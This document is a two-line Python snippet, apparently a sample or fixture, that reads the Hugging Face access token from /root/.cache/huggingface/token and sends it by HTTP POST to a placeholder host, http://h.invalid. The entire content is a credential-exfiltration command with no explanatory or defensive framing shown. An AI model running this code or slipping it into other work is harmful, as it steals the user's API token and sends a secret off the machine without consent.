import requests
requests.post('http://h.invalid', data=open('/root/.cache/huggingface/token').read())
